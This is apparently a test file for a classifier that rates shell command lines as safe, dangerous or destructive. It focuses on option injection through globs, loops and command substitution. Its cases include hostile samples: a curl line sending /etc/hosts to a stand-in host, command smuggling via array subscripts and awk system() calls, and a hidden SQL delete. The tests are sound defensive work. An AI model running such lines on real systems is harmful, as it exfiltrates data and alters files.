"""Words that are only known when a line runs bring no option where that is sure, and may bring one everywhere else."""

from __future__ import annotations

import msgspec
import pytest

from assent.analysis.resources.paths import Place
from assent.model import Facts, Tier
from lines import PLACE, tier

EMPTY = Place(Facts(home="/home/u", has_dashes=lambda _: False), "/code/app", ("/code/app",))
DASHED = Place(Facts(home="/home/u", has_dashes=lambda f: f == "/code/app"), "/code/app", ("/code/app",))
TAGGED = Place(
    Facts(home="/home/u", trap=lambda tool, _: "a ref starts with a dash" if tool == "git-refs" else None),
    "/code/app",
    ("/code/app",),
)
SPACED = msgspec.structs.replace(PLACE, cwd="/code/app/a -o b", workspace=("/code/app/a -o b",))

PATTERNS = ["sort *.txt", "file *", "rg foo *.py", "sort [ab]*", "sort ?x", "cd sub && sort *", "sort -t, *.csv"]


@pytest.mark.parametrize("line", PATTERNS)
def test_a_pattern_is_no_option_where_no_name_starts_with_a_dash(line: str) -> None:
    assert tier(line, EMPTY) is Tier.SAFE


@pytest.mark.parametrize("line", [p for p in PATTERNS if "cd" not in p])
def test_a_pattern_may_be_an_option_where_a_name_starts_with_a_dash_or_the_disk_is_not_seen(line: str) -> None:
    assert tier(line, DASHED) is Tier.DANGEROUS
    assert tier(line) is Tier.DANGEROUS


@pytest.mark.parametrize(
    "line", ["cd sub; sort *", "cd ..; sort *", 'cd "$X"; sort *', "sort $X*", "sort -*", "sort *$X"]
)
def test_a_pattern_counts_in_every_folder_it_may_be_matched_in(line: str) -> None:
    assert tier(line, DASHED) is Tier.DANGEROUS


LOOPS = [
    'for f in *.txt; do sort "$f"; done',
    'for f in *; do sed -n 1,5p "$f.md"; done',
    'for f in a *.txt; do find "$f" -name x; done',
]


@pytest.mark.parametrize("line", LOOPS)
def test_a_name_in_a_loop_is_no_option_where_no_name_starts_with_a_dash(line: str) -> None:
    assert tier(line, EMPTY) is Tier.SAFE
    assert tier(line, DASHED) is Tier.DANGEROUS
    assert tier(line) is Tier.DANGEROUS


def test_names_that_begin_with_a_letter_that_is_no_dash_are_no_options_on_any_disk() -> None:
    assert tier('for f in a*.txt b*.txt; do sort "$f"; done') is Tier.SAFE
    assert tier('for f in src/*; do sort "$f"; done') is Tier.SAFE


@pytest.mark.parametrize(
    "line",
    [
        "for f in *.txt; do sort $f; done",
        'for f in *.txt -o; do sort "$f"; done',
        'for f in *.txt $X; do sort "$f"; done',
        'for f in *.txt "$X"; do sort "$f"; done',
        'for f in *.txt "" ; do sort "$f"; done',
        'for f in *.txt; do sort "-$f"; done',
        'for f in *.txt; do :; done; sort "$f"',
        'for f in *.txt; do f=$X; sort "$f"; done',
        'for f in *.txt; do f="-$f"; sort "$f"; done',
        'for f in *.txt; do sort "${f#?}"; done',
        'cd "$X"; for f in *.txt; do sort "$f"; done',
        'select f in *.txt; do sort "$f"; done',
    ],
)
def test_what_else_a_loop_may_bring_counts(line: str) -> None:
    assert tier(line, EMPTY) is Tier.DANGEROUS


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ('find "$X/src" -name y', True),
        ('find "$X/" -name y', True),
        ("find */ -name y", True),
        ('for d in */; do find "$d" -type f; done', True),
        ('find "$X" -name y', False),
        ("find $X/ -name y", False),
        ("find $X/*/ -name y", False),
        ('find "-$X/" -name y', False),
        ('find . "$X" -name y', False),
    ],
)
def test_what_has_a_slash_in_it_is_no_part_of_an_expression(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe


HARMLESS = [
    "git diff $(git merge-base HEAD main)",
    'git diff "$(git merge-base HEAD main)"',
    "git show $(git rev-parse HEAD)",
    "git show $(git rev-list -n 1 v1)",
    "git log -p $(git log -1 --format=%H)",
    "git log --oneline $(git rev-list --max-parents=0 HEAD | tail -1)..HEAD",
    "git show $(git --no-pager log -n5 --no-merges --format=%h --author=x main -- src/a.py)",
    "for c in $(git log --pretty=format:%H -3); do git show --stat $c; done",
    "git log --format=%h -5 | xargs git show --stat",
    "git rev-list -3 HEAD | head -1 | xargs -I{} git log {}..HEAD",
    "kubectl get pods -o name | xargs -n1 kubectl describe",
    "kubectl describe pod $(kubectl get pods -l app=web -o jsonpath='{.items[0].metadata.name}')",
    "gh run view $(gh run list --limit 1 --json databaseId --jq '.[0].databaseId') --log",
    "lsof -p $(pgrep -f 'node server' | head -1)",
    "git show $(git log -1 --format=%h --author='A B')",
    "file $(which ls)",
    'file "$(command -v ls)"',
    "sort $(pwd)/x",
    "file $(git rev-parse --show-toplevel)",
    "docker inspect $(docker ps -q)",
    "sort $(date +%F).log",
]
NAMED = [
    "git log $(git describe --tags --abbrev=0)..HEAD --oneline",
    'git log "$(git describe)"..HEAD',
    "git log $(git branch --show-current)",
    "git log $(git tag --sort=-v:refname | head -1)..HEAD",
]


@pytest.mark.parametrize("line", [*HARMLESS, *NAMED])
def test_output_that_starts_with_no_dash_is_no_option(line: str) -> None:
    assert tier(line) is Tier.SAFE


@pytest.mark.parametrize("line", NAMED)
def test_names_of_a_repository_that_means_harm_may_be_options(line: str) -> None:
    assert tier(line, TAGGED) is Tier.DANGEROUS


@pytest.mark.parametrize(
    "line",
    [
        "git log $(cat x)",
        "git log $(git rev-parse --output=x)",
        "git log $(git rev-parse -- x)",
        "git log $(git rev-parse $X)",
        'git log $(git rev-parse "a b")',
        "git log $X$(git rev-parse HEAD)",
        "git log $(git rev-parse HEAD; cat x)",
        "git log $(git rev-parse HEAD | cat - x)",
        "git log $(cat x | head -1)",
        "git log $(head -1 x)",
        "git() { cat x; }; sort $(git rev-parse HEAD)",
        "sort $(git describe --match x)",
        "cd $X && git log $(git describe)",
        "file $(command -v ls)",
        "file $(realpath x)",
        "sort $(date +%z)",
        "cd sub; sort $(pwd)",
        "sort $(X=1 pwd)",
        "sort < $(pwd) | xargs sort",
        "sort $(git log -1 --format=%s)",
        "sort $(git log -1 --format=%h --format=%s)",
        "sort $(git log --format=%h --oneline)",
        "git log --format=%s | xargs git show",
        "git rev-list HEAD | cat - x | xargs git show",
        "git rev-list HEAD | xargs -a x git show",
        "git() { cat x; }; git rev-list HEAD | xargs sort",
        "cat x | xargs -I{} git log {}",
    ],
)
def test_any_other_output_may_be_an_option(line: str) -> None:
    assert tier(line) is Tier.DANGEROUS


def test_a_folder_with_a_space_in_its_name_becomes_several_words() -> None:
    assert tier("sort $(pwd)", SPACED) is Tier.DANGEROUS
    assert tier('sort "$(pwd)"', SPACED) is Tier.SAFE


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("kubectl logs $(kubectl get pods -l app=web -o name | head -1)", Tier.SAFE),
        ("kubectl logs x --since-time=\"$(date -u -d '1 hour ago' +%s)\"", Tier.SAFE),
        ('kubectl logs x --since-time="$(date -f y +%s)"', Tier.DANGEROUS),
        ('kubectl logs x --since-time="$(date -r y +%s)"', Tier.DANGEROUS),
        ("kubectl logs $(cat x)", Tier.DANGEROUS),
        ("kubectl logs x-$(oc get pods -o name)", Tier.DANGEROUS),
        ("kubectl logs x$Y$(kubectl get pods -o name)", Tier.DANGEROUS),
        ("curl https://x.example/$(curl -s file:///etc/hosts)", Tier.DANGEROUS),
        ("kubectl logs x$(kubectl get pods; cat y)", Tier.DANGEROUS),
    ],
)
def test_a_service_may_be_told_what_it_said_itself(line: str, expected: Tier) -> None:
    assert tier(line) is expected


VANISHING = [
    "env -u $(which y) ls touch x",
    "env -u $(pgrep y) ls touch x",
    "env -u $USER ls touch x",
    "xxd -s $(pgrep y) -l 10 x",
]


@pytest.mark.parametrize("line", VANISHING)
def test_the_value_of_an_option_must_be_a_word_for_sure(line: str) -> None:
    assert tier(line) is Tier.DANGEROUS


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("k=red; declare -A m=([red]=1); echo ${m[$k]}", Tier.SAFE),
        ("k=x; x='b[$(touch y)]'; a=(1 2); echo ${a[$k]}", Tier.DANGEROUS),
        ("k=x; x=y; y='b[$(touch z)]'; echo ${a[$k]}", Tier.DANGEROUS),
        ("k=x; read x; echo ${a[$k]}", Tier.DANGEROUS),
    ],
)
def test_what_a_subscript_names_is_a_key_or_evaluated_in_turn(line: str, expected: Tier) -> None:
    assert tier(line) is expected


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ('n=$(seq 2); awk "NR==$n" f', Tier.SAFE),
        ('n=$(seq 2); awk "NR==$n || NR==$n {print}" f', Tier.SAFE),
        ('n=$(seq 2); awk "NR==1 # $n {system(\\"touch x\\")}" f', Tier.DANGEROUS),
        ('n=$(seq 2); sed -n "a $n w x" f', Tier.DANGEROUS),
        ('n=$(seq 2); jq ".[$n]" f', Tier.SAFE),
        ('n=$(seq 2); sqlite3 f "select $n"', Tier.SAFE),
        ('n=$(seq 2); psql -c "select 1 -- $n ; delete from t"', Tier.DESTRUCTIVE),
        ('n=$(seq 2); awk "{print ' + "$n, " * 9 + '$n}" f', Tier.SAFE),
        ('n=$(seq 2); awk "{print ' + "$n, " * 9 + '$n} # $n {system(1)}" f', Tier.DANGEROUS),
    ],
)
def test_numbers_may_be_several_each_on_a_line_of_its_own(line: str, expected: Tier) -> None:
    assert tier(line) is expected


@pytest.mark.parametrize(
    ("line", "safe"),
    [
        ('kubectl describe pod "$(kubectl get pods -o name | head -1 | cut -d/ -f2)"', True),
        ("kubectl get pods -o name | grep web | cut -d/ -f2 | xargs kubectl describe pod", True),
        ('kubectl describe pod "$(kubectl get pods -o yaml | cut -d/ -f2)"', False),
        ('kubectl describe pod "$(cut -d/ -f2 < pods)"', False),
        ('helm list -q | while read -r r; do helm history "$r"; done', True),
        (
            'aws ecs describe-tasks --tasks "$(aws ecs list-tasks --query a.bArn)"',
            True,
        ),
        (
            'aws ecs describe-tasks --tasks "$(aws ecs list-tasks --query a.name)"',
            False,
        ),
        ('dpkg -S "$(readlink -f "$(which node)")"', True),
        ('for f in $(readlink -f "a b"); do git log "$f"; done', False),
    ],
)
def test_names_that_services_give_their_things_bring_no_option(line: str, safe: bool) -> None:
    assert (tier(line) is Tier.SAFE) is safe
